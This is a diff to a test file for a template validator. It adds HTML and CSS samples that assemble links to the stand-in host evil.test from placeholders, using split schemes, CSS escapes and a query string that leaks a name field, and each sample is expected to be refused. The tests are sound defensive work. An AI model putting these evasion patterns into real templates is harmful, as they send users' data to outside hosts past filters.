@@ -86,9 +86,19 @@ describe('outside addresses that a model brings in', () => {
     expect(refused(withFiles({ ...text, 'template.html': '<img src="{{text.pay}}" alt="">' }))).to.include(
       'put together',
     )
+    // A default may be any part of a scheme.
+    const open = [
+      '<img src="h{{x}}tps://evil.test/?d={{name}}" alt="">',
+      '<img srcset="assets/a.png 1x, h{{x}}tp:evil.test 2x" alt="">',
+      '<svg><rect fill="url({{x}}tps://evil.test)"/></svg>',
+      '<p style="background: u\\72l(\'{{x}}\ttps://evil.test\')">x</p>',
+      '<p style="background: url({{x}}{{y}})">x</p>',
+      '<style>p { background: url(/{{x}}/evil.test) }</style>',
+    ]
+    for (const html of open) expect(refused(withHtml(html)), html).to.include('put together')
     const plain = '{ "computed": { "share": "paid / total", "hue": "if(late, \\"red\\", \\"green\\")" } }'
     const bars =
-      '<p style="width: {{share}}%; color: {{hue}}">{{share}}</p>{{#photos}}<img src="{{.}}" alt="">{{/photos}}'
+      '<p style="width: {{share}}%; color: {{hue}}; background: url(assets/{{name}}.png)">{{share}}</p>{{#photos}}<img src="{{.}}" alt="">{{/photos}}'
     expect(refused(withFiles({ 'template.json': plain, 'template.html': bars }))).to.equal(undefined)
   })
 
